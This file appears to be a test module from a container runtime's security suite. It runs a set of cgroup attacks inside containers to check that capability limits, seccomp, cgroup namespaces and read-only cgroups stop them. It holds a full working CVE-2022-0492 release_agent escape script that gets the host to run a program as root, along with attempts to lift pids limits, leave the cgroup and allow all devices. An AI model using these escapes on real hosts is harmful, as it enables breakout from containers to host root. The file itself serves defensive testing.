// Attacks by control groups: out of the limits, and to the host.

import { spawnSync } from 'node:child_process'
import { existsSync, readFileSync } from 'node:fs'
import { join } from 'node:path'
import { attacks, says } from './attack.ts'
import { capabilities, cgroupNamespace, readonlyCgroup, seccomp } from './protections.ts'

const isVersion1 = () => readFileSync('/proc/mounts', 'utf8').includes('/sys/fs/cgroup/pids cgroup')
const onlyVersion1 = () => !isVersion1() && 'this kernel has its cgroups in version 2'

/** Where the files of a controller are, inside the container. */
const at = (controller: string) =>
  `$([ -d /sys/fs/cgroup/${controller} ] && echo /sys/fs/cgroup/${controller} || echo /sys/fs/cgroup)`

export const cgroup = attacks(
  {
    name: 'what the host runs when a cgroup is empty',
    cve: 'CVE-2022-0492',
    tries:
      'mounts a hierarchy of cgroup v1, names a program of hers as its release_agent, and the kernel starts it on the host',
    stoppedBy: [capabilities('SYS_ADMIN'), seccomp, cgroupNamespace],
    left: 'nothing: the program is root of the host, outside of every namespace',
    missing: () =>
      !readFileSync('/proc/filesystems', 'utf8').includes('\tcgroup\n') && 'this kernel has no cgroup v1',
    attack: {
      does: async ({ run, host }) => {
        const mark = join(host.directory, 'was-here')
        const script = `set -e
          mkdir /tmp/c; mount -t cgroup -o none,name=attack-${host.pid} none /tmp/c; mkdir /tmp/c/x
          echo 1 > /tmp/c/x/notify_on_release
          printf '#!/bin/sh\\necho "$0" > ${mark}\\n' > /agent; chmod 755 /agent
          upper=$(sed -n 's/.*upperdir=\\([^,]*\\).*/\\1/p' /proc/mounts | head -n 1)
          echo $upper/agent > /tmp/c/release_agent
          sh -c 'echo $$ > /tmp/c/x/cgroup.procs'
          for i in $(seq 100); do rmdir /tmp/c/x 2> /dev/null && break; sleep 0.05; done; umount /tmp/c; sleep 0.3`
        const seen = await run(['-v', `${host.directory}:/from-outside`], { script })
        for (let i = 0; i < 20 && seen.status === 0 && !existsSync(mark); i++)
          await new Promise((resolve) => setTimeout(resolve, 50))
        removeHierarchy(`attack-${host.pid}`)
        return { ...seen, stdout: `${seen.stdout}${existsSync(mark) ? 'the host ran it' : ''}` }
      },
    },
    gotThrough: says('the host ran it'),
  },
  {
    name: 'raise her own limits',
    tries: 'writes a larger number into the files of her own cgroup',
    stoppedBy: [readonlyCgroup],
    left: 'nothing: the files are root’s, and she is user 0',
    flags: ['--pids-limit', '30'],
    attack: () => ({ script: `cd ${at('pids')}; echo max > pids.max; cat pids.max` }),
    gotThrough: ({ stdout }) => stdout.trim() === 'max',
  },
  {
    name: 'leave her cgroup',
    tries: 'moves herself into the cgroup of the host, where no limit holds',
    stoppedBy: [cgroupNamespace, readonlyCgroup],
    left: 'nothing',
    missing: onlyVersion1,
    flags: ['--pids-limit', '10'],
    attack: () => ({
      script: `echo $$ > /sys/fs/cgroup/pids/cgroup.procs
        for i in $(seq 20); do sleep 5 & done; ls -d /proc/[0-9]* | wc -l; kill $(jobs -p)`,
    }),
    gotThrough: ({ stdout }) => Number(stdout) > 15,
  },
  {
    name: 'see the cgroups of others',
    tries: 'lists the cgroups of the host, and by them what runs there',
    stoppedBy: [cgroupNamespace],
    left: 'nothing: the mount would begin at the top',
    attack: () => ({ script: 'cat /proc/self/cgroup' }),
    gotThrough: says('gocker/'),
  },
  {
    name: 'allow herself all devices',
    tries: 'writes `a` into devices.allow of her own cgroup',
    stoppedBy: [readonlyCgroup, capabilities('SYS_ADMIN')],
    left: 'nothing',
    missing: onlyVersion1,
    attack: () => ({ script: 'echo a > /sys/fs/cgroup/devices/devices.allow && echo allowed' }),
    gotThrough: says('allowed'),
  },
  {
    name: 'make a cgroup of her own',
    tries:
      'makes directories in the cgroup file system, which cost memory of the kernel that no limit counts',
    stoppedBy: [readonlyCgroup],
    left: 'nothing',
    attack: () => ({ script: `mkdir ${at('memory')}/mine && rmdir ${at('memory')}/mine && echo made` }),
    gotThrough: says('made'),
  },
)

/** It stays when it was unmounted before the kernel had let go of its cgroups; a mount and an unmount end it then. */
function removeHierarchy(name: string): void {
  const script = `d=$(mktemp -d); mount -t cgroup -o none,name=${name} none $d && rmdir $d/x; umount $d; rmdir $d`
  for (let i = 0; i < 50 && readFileSync('/proc/self/cgroup', 'utf8').includes(`name=${name}:`); i++)
    spawnSync('unshare', ['--mount', 'sh', '-c', `${script}; sleep 0.1`])
}
